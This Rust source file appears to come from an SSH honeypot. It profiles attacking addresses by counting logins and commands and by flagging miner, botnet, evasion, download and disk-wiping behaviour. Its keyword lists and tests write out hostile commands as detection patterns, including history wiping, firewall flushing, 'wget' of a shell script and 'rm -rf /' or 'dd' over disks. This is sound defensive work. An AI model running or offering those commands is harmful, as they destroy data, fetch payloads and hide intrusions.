//! What the profile book accumulates per address and per open session, and how each event
//! kind updates it.
//!
//! Every field is a counter, a capped tally or a short ring: an address that sends a million
//! attempts costs the same memory as one that sends a hundred. Command lines are scanned for
//! a few keyword families (miners, Mirai/busybox markers, anti-forensics, downloads,
//! destruction) so the profile still says something about events stored without detections;
//! the detections (`technique`, `download`, `honeytoken_touched`, ...) set the same flags.

use miragepot_event::{AuthMethod, Event, EventKind, ForwardKind, InputMode, InputStats};
use time::OffsetDateTime;

use super::hassh::{banner_family, hassh_family};
use super::window::{Counts, Recent, Tally, Windows, fnv1a};

/// Distinct usernames tracked per address (the rest count as overflow).
pub const USER_CAP: usize = 32;
/// Distinct passwords tracked per address (as hashes).
pub const PASSWORD_CAP: usize = 64;
/// Distinct (username, password) pairs tracked per address (as hashes).
pub const PAIR_CAP: usize = 128;
/// Distinct technique ids kept per address.
const TECHNIQUE_CAP: usize = 64;
/// Distinct sensor names kept per address.
const SENSOR_CAP: usize = 8;
/// Attempt times kept for gaps and rates.
const RECENT_ATTEMPTS: usize = 64;
/// Auth-to-first-command delays kept.
const RECENT_FIRST_COMMANDS: usize = 16;
/// Characters kept of a banner, HASSH or sensor name.
const MAX_FIELD: usize = 128;
/// Characters kept of a username.
const MAX_USERNAME: usize = 64;
/// Bytes of a command line scanned for keywords.
const SCAN_BYTES: usize = 4096;

/// What detections and keywords said the address did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Flags {
    /// A miner: T1496, or miner keywords (`xmrig`, `stratum+tcp`, ...).
    pub miner: bool,
    /// Botnet enrolment: T1584.005, or Mirai markers (`/bin/busybox ECCHI`).
    pub botnet: bool,
    /// Anti-honeypot checks, history or log wiping, `chattr`, competitor killing.
    pub evasive: bool,
    /// Any persistence technique (tactic TA0003).
    pub persistence: bool,
    /// T1098.004: an SSH key written to `authorized_keys`.
    pub ssh_key: bool,
    /// T1485 or a disk-wiping command.
    pub destructive: bool,
    /// A payload came in: a download, an upload, T1105 or a fetch command.
    pub ingress: bool,
    /// T1090/T1572 proxy or tunnelling.
    pub proxy: bool,
}

/// Everything known about one address.
#[derive(Debug, Clone)]
pub struct IpState {
    /// The earliest event time seen.
    pub first_seen: OffsetDateTime,
    /// The latest event time seen.
    pub last_seen: OffsetDateTime,
    /// Its key in the book's least-recently-seen order.
    pub lru_key: (i128, u64),
    /// Attempts, failures and sessions over 1 m / 1 h / 24 h.
    pub windows: Windows,
    /// Times of the latest attempts (ms).
    pub recent_attempts: Recent,
    /// Delays from login to the first command (ms).
    pub first_command_ms: Recent,
    /// Usernames tried.
    pub users: Tally<String>,
    /// Passwords tried (hashes).
    pub passwords: Tally<u64>,
    /// Pairs tried (hashes).
    pub pairs: Tally<u64>,
    /// Login attempts (any method but `none`).
    pub attempts: u32,
    /// Failed attempts.
    pub failures: u32,
    /// Accepted attempts.
    pub successes: u32,
    /// Attempts with a password.
    pub password_attempts: u32,
    /// Attempts as `root`.
    pub root_attempts: u32,
    /// Attempts whose pair is in the default-credentials list.
    pub default_attempts: u32,
    /// Accepted attempts with a default pair.
    pub default_successes: u32,
    /// Sessions started.
    pub sessions: u32,
    /// Sessions ended.
    pub closed: u32,
    /// Ended sessions without a login attempt.
    pub noauth_closed: u32,
    /// Ended sessions that logged in and ran nothing.
    pub credential_checks: u32,
    /// Sessions with a pty.
    pub pty_sessions: u32,
    /// Sessions that sent exec requests.
    pub exec_sessions: u32,
    /// Command lines.
    pub commands: u32,
    /// `direct-tcpip` requests.
    pub direct_tcpip: u32,
    /// Downloads (`download` events).
    pub downloads: u32,
    /// Uploads (`file_uploaded` events).
    pub uploads: u32,
    /// Files run (`file_executed` events).
    pub executed: u32,
    /// Decoy secrets touched or reused.
    pub honeytokens: u32,
    /// Sessions whose input rhythm looked typed.
    pub typed_sessions: u32,
    /// Sessions whose input rhythm looked pasted.
    pub pasted_sessions: u32,
    /// Technique ids seen, sorted, with whether one hit was high-confidence.
    pub techniques: Vec<(String, bool)>,
    /// Sensors that saw the address, sorted.
    pub sensors: Vec<String>,
    /// Behaviour flags.
    pub flags: Flags,
    /// Latest HASSH.
    pub hassh: Option<String>,
    /// Latest identification line.
    pub client_version: Option<String>,
    /// Family of the latest client.
    pub family: Option<&'static str>,
}

impl IpState {
    /// A fresh state for an address first seen at `ts`.
    pub fn new(ts: OffsetDateTime, lru_key: (i128, u64)) -> Self {
        IpState {
            first_seen: ts,
            last_seen: ts,
            lru_key,
            windows: Windows::default(),
            recent_attempts: Recent::new(RECENT_ATTEMPTS),
            first_command_ms: Recent::new(RECENT_FIRST_COMMANDS),
            users: Tally::new(USER_CAP),
            passwords: Tally::new(PASSWORD_CAP),
            pairs: Tally::new(PAIR_CAP),
            attempts: 0,
            failures: 0,
            successes: 0,
            password_attempts: 0,
            root_attempts: 0,
            default_attempts: 0,
            default_successes: 0,
            sessions: 0,
            closed: 0,
            noauth_closed: 0,
            credential_checks: 0,
            pty_sessions: 0,
            exec_sessions: 0,
            commands: 0,
            direct_tcpip: 0,
            downloads: 0,
            uploads: 0,
            executed: 0,
            honeytokens: 0,
            typed_sessions: 0,
            pasted_sessions: 0,
            techniques: Vec::new(),
            sensors: Vec::new(),
            flags: Flags::default(),
            hassh: None,
            client_version: None,
            family: None,
        }
    }
}

/// What one open session has done so far.
#[derive(Debug, Clone, Default)]
pub struct SessState {
    version: Option<String>,
    auth_attempts: u32,
    authed_at: Option<i64>,
    commands: u32,
    pty: bool,
    exec: bool,
    forwards: u32,
}

/// Whether an event kind starts tracking a session not seen before (detections and
/// end-of-session events do not: they may come after the session closed).
pub fn opens_session(kind: &EventKind) -> bool {
    matches!(
        kind,
        EventKind::SessionStart { .. }
            | EventKind::ClientVersion { .. }
            | EventKind::ClientKex { .. }
            | EventKind::AuthAttempt { .. }
            | EventKind::PtyRequest { .. }
            | EventKind::ShellStart { .. }
            | EventKind::CommandInput { .. }
            | EventKind::ForwardRequest { .. }
    )
}

/// Unix milliseconds of `ts`.
pub fn millis(ts: OffsetDateTime) -> i64 {
    i64::try_from(ts.unix_timestamp_nanos() / 1_000_000).unwrap_or(i64::MAX)
}

/// `s` cut to `max` characters.
fn clip(s: &str, max: usize) -> String {
    s.chars().take(max).collect()
}

/// Applies one event to the address and its session. Returns whether the session ended.
pub fn apply(ip: &mut IpState, sess: &mut SessState, ev: &Event, defaults: &[u64]) -> bool {
    let ts = ev.ts;
    note_sensor(ip, &ev.sensor);
    match &ev.kind {
        EventKind::SessionStart { .. } => {
            ip.sessions = ip.sessions.saturating_add(1);
            let one = Counts {
                sessions: 1,
                ..Counts::default()
            };
            ip.windows.add(ts.unix_timestamp(), one);
        }
        EventKind::SessionEnd { .. } => {
            ip.closed = ip.closed.saturating_add(1);
            if sess.auth_attempts == 0 {
                ip.noauth_closed = ip.noauth_closed.saturating_add(1);
            }
            if sess.authed_at.is_some() && sess.commands == 0 && sess.forwards == 0 {
                ip.credential_checks = ip.credential_checks.saturating_add(1);
            }
            return true;
        }
        EventKind::ClientVersion { version } => {
            let v = clip(version, MAX_FIELD);
            ip.family = banner_family(&v);
            ip.client_version = Some(v.clone());
            sess.version = Some(v);
        }
        EventKind::ClientKex { hassh, .. } => {
            let h = clip(hassh, MAX_FIELD);
            ip.family = hassh_family(&h, sess.version.as_deref());
            ip.hassh = Some(h);
        }
        EventKind::AuthAttempt {
            method,
            username,
            password,
            success,
            ..
        } if *method != AuthMethod::None => {
            let pw = password.as_deref();
            auth(ip, sess, ts, username, pw, *success, defaults);
        }
        EventKind::PtyRequest { .. } | EventKind::ShellStart { pty: true } if !sess.pty => {
            sess.pty = true;
            ip.pty_sessions = ip.pty_sessions.saturating_add(1);
        }
        EventKind::CommandInput { input, mode, .. } => {
            command(ip, sess, ts, input, *mode);
        }
        EventKind::ForwardRequest { kind, .. } => {
            sess.forwards = sess.forwards.saturating_add(1);
            if *kind == ForwardKind::DirectTcpip {
                ip.direct_tcpip = ip.direct_tcpip.saturating_add(1);
            }
        }
        EventKind::Download { .. } => {
            ip.downloads = ip.downloads.saturating_add(1);
            ip.flags.ingress = true;
        }
        EventKind::FileUploaded { .. } => {
            ip.uploads = ip.uploads.saturating_add(1);
            ip.flags.ingress = true;
        }
        EventKind::FileExecuted { .. } => ip.executed = ip.executed.saturating_add(1),
        EventKind::Technique(hit) => {
            let high = hit.confidence == miragepot_event::Confidence::High;
            note_technique(
                ip,
                &hit.technique,
                Some(&hit.tactic_id),
                high,
                &hit.evidence,
            );
        }
        EventKind::HoneytokenTouched(_) | EventKind::TokenReused(_) => {
            ip.honeytokens = ip.honeytokens.saturating_add(1);
        }
        EventKind::SessionSummary(sum) => {
            for t in &sum.techniques {
                note_technique(ip, t, None, false, "");
            }
            if sum.downloads > 0 {
                ip.flags.ingress = true;
            }
            if sum.tokens_touched > 0 && ip.honeytokens == 0 {
                ip.honeytokens = sum.tokens_touched;
            }
            match typing(&sum.input) {
                Some(true) => ip.typed_sessions = ip.typed_sessions.saturating_add(1),
                Some(false) => ip.pasted_sessions = ip.pasted_sessions.saturating_add(1),
                None => {}
            }
        }
        _ => {}
    }
    false
}

fn note_sensor(ip: &mut IpState, sensor: &str) {
    if let Err(i) = ip.sensors.binary_search_by(|s| s.as_str().cmp(sensor))
        && ip.sensors.len() < SENSOR_CAP
    {
        ip.sensors.insert(i, clip(sensor, MAX_FIELD));
    }
}

fn auth(
    ip: &mut IpState,
    sess: &mut SessState,
    ts: OffsetDateTime,
    username: &str,
    password: Option<&str>,
    success: bool,
    defaults: &[u64],
) {
    sess.auth_attempts = sess.auth_attempts.saturating_add(1);
    ip.attempts = ip.attempts.saturating_add(1);
    let delta = Counts {
        attempts: 1,
        failures: u32::from(!success),
        sessions: 0,
    };
    ip.windows.add(ts.unix_timestamp(), delta);
    ip.recent_attempts.push(millis(ts));
    if success {
        ip.successes = ip.successes.saturating_add(1);
        if sess.authed_at.is_none() {
            sess.authed_at = Some(millis(ts));
        }
    } else {
        ip.failures = ip.failures.saturating_add(1);
    }
    if username == "root" {
        ip.root_attempts = ip.root_attempts.saturating_add(1);
    }
    ip.users.add(clip(username, MAX_USERNAME));
    if let Some(pw) = password {
        ip.password_attempts = ip.password_attempts.saturating_add(1);
        ip.passwords.add(fnv1a(&[pw]));
        let pair = fnv1a(&[username, pw]);
        ip.pairs.add(pair);
        if defaults.binary_search(&pair).is_ok() {
            ip.default_attempts = ip.default_attempts.saturating_add(1);
            if success {
                ip.default_successes = ip.default_successes.saturating_add(1);
            }
        }
    }
}

fn command(ip: &mut IpState, sess: &mut SessState, ts: OffsetDateTime, line: &str, m: InputMode) {
    if sess.commands == 0
        && let Some(at) = sess.authed_at
    {
        ip.first_command_ms
            .push(millis(ts).saturating_sub(at).max(0));
    }
    sess.commands = sess.commands.saturating_add(1);
    ip.commands = ip.commands.saturating_add(1);
    if m == InputMode::Exec && !sess.exec {
        sess.exec = true;
        ip.exec_sessions = ip.exec_sessions.saturating_add(1);
    }
    scan_command(&mut ip.flags, line);
}

/// Records a technique id and the flags it implies. `tactic` is unknown for the ids of a
/// session summary; `evidence` tells `chattr` from a plain `chmod` for T1222.
pub fn note_technique(
    ip: &mut IpState,
    id: &str,
    tactic: Option<&str>,
    high: bool,
    evidence: &str,
) {
    let id = clip(id, 32);
    match ip.techniques.binary_search_by(|(t, _)| t.as_str().cmp(&id)) {
        Ok(i) => {
            if let Some((_, h)) = ip.techniques.get_mut(i) {
                *h |= high;
            }
        }
        Err(i) if ip.techniques.len() < TECHNIQUE_CAP => {
            ip.techniques.insert(i, (id.clone(), high))
        }
        Err(_) => {}
    }
    let base = id.split('.').next().unwrap_or("");
    let f = &mut ip.flags;
    match base {
        "T1496" => f.miner = true,
        "T1584" => f.botnet = true,
        "T1485" => f.destructive = true,
        "T1105" => f.ingress = true,
        "T1090" | "T1572" => f.proxy = true,
        "T1497" | "T1070" | "T1489" | "T1562" | "T1564" | "T1036" => f.evasive = true,
        "T1222" if evidence.to_ascii_lowercase().contains("chattr") => f.evasive = true,
        "T1053" | "T1136" | "T1546" | "T1543" | "T1037" | "T1098" => f.persistence = true,
        _ => {}
    }
    if id == "T1098.004" {
        f.ssh_key = true;
    }
    if tactic == Some("TA0003") {
        f.persistence = true;
    }
}

const MINER_WORDS: &[&str] = &[
    "xmrig",
    "stratum+tcp",
    "stratum+ssl",
    "minerd",
    "cpuminer",
    "xmr-stak",
    "cryptonight",
    "--donate-level",
    "c3pool",
    "nanopool",
    "supportxmr",
    "moneroocean",
    "nicehash",
    "ethminer",
];
const BOTNET_WORDS: &[&str] = &["mirai", "gafgyt", "bashlite"];
const EVASION_WORDS: &[&str] = &[
    "chattr",
    "history -c",
    "unset histfile",
    "histfile=/dev/null",
    "histsize=0",
    "dmesg",
    "lspci",
    "/proc/1/cgroup",
    "setenforce 0",
    "iptables -f",
    "ufw disable",
    "pkill",
    "killall",
];
const FETCH_WORDS: &[&str] = &["wget ", "curl ", "tftp ", "ftpget "];
const DESTRUCTIVE_WORDS: &[&str] = &[
    "rm -rf /*",
    "rm -rf / ",
    "--no-preserve-root",
    "mkfs.",
    "dd if=/dev/zero of=/dev/sd",
    "dd if=/dev/urandom of=/dev/sd",
];

/// Sets the keyword flags of one command line (its first 4 KiB).
pub fn scan_command(f: &mut Flags, line: &str) {
    let mut end = line.len().min(SCAN_BYTES);
    while !line.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    let raw = line.get(..end).unwrap_or("");
    let lower = raw.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| lower.contains(w));
    f.miner |= has(MINER_WORDS);
    f.botnet |= has(BOTNET_WORDS) || busybox_marker(raw);
    f.evasive |= has(EVASION_WORDS);
    f.ingress |= has(FETCH_WORDS);
    f.destructive |= has(DESTRUCTIVE_WORDS) || lower.trim_end().ends_with("rm -rf /");
}

/// A Mirai-style marker: `busybox` followed by an upper-case word that is no applet
/// (`/bin/busybox ECCHI`), which the bot uses to recognise its own shell.
fn busybox_marker(raw: &str) -> bool {
    raw.match_indices("busybox").any(|(i, w)| {
        let rest = raw.get(i.saturating_add(w.len())..).unwrap_or("");
        let trimmed = rest.trim_start_matches(' ');
        if trimmed.len() == rest.len() {
            return false;
        }
        let word: String = trimmed
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        (3..=16).contains(&word.len())
            && word.chars().any(|c| c.is_ascii_uppercase())
            && !word.chars().any(|c| c.is_ascii_lowercase())
    })
}

/// `Some(true)` when a session's input rhythm looks typed (small reads, 80–1500 ms apart, or
/// with corrections), `Some(false)` when it looks pasted (whole lines per read, or reads
/// under 30 ms apart), `None` when there is too little to tell.
pub fn typing(s: &InputStats) -> Option<bool> {
    if s.writes == 0 {
        return None;
    }
    let per_read = s.bytes / u64::from(s.writes);
    let gap = s.median_gap_ms;
    if s.backspaces > 0 && per_read <= 4 {
        return Some(true);
    }
    if per_read <= 3 && s.writes >= 5 && gap.is_some_and(|g| (80..=1500).contains(&g)) {
        return Some(true);
    }
    if per_read >= 8 || (s.writes >= 3 && gap.is_some_and(|g| g < 30)) {
        return Some(false);
    }
    None
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;

    fn flags(line: &str) -> Flags {
        let mut f = Flags::default();
        scan_command(&mut f, line);
        f
    }

    #[test]
    fn keyword_families() {
        assert!(flags("cd /tmp; ./xmrig -o pool:3333").miner);
        assert!(flags("/bin/busybox ECCHI").botnet);
        assert!(flags("enable; /bin/busybox MIRAI").botnet);
        assert!(!flags("/bin/busybox wget http://x/y").botnet);
        assert!(!flags("busybox").botnet);
        assert!(flags("chattr -ia .ssh; lockr -ia .ssh").evasive);
        assert!(flags("wget http://203.0.113.5/x.sh").ingress);
        assert!(flags("rm -rf /").destructive);
        assert!(flags("rm -rf /*").destructive);
        assert!(!flags("rm -rf /tmp/x").destructive);
        assert_eq!(flags("uname -a"), Flags::default());
        // A long line with a multi-byte character at the cut does not panic.
        let long = format!("{}é{}", "a".repeat(SCAN_BYTES - 1), "xmrig");
        assert!(!flags(&long).miner, "past the scanned prefix");
    }

    #[test]
    fn typing_rhythm() {
        let typed = InputStats {
            writes: 40,
            bytes: 42,
            backspaces: 2,
            median_gap_ms: Some(180),
        };
        let slow_no_typos = InputStats {
            backspaces: 0,
            ..typed.clone()
        };
        let pasted = InputStats {
            writes: 3,
            bytes: 120,
            backspaces: 0,
            median_gap_ms: Some(5),
        };
        assert_eq!(typing(&typed), Some(true));
        assert_eq!(typing(&slow_no_typos), Some(true));
        assert_eq!(typing(&pasted), Some(false));
        assert_eq!(typing(&InputStats::default()), None);
    }
}
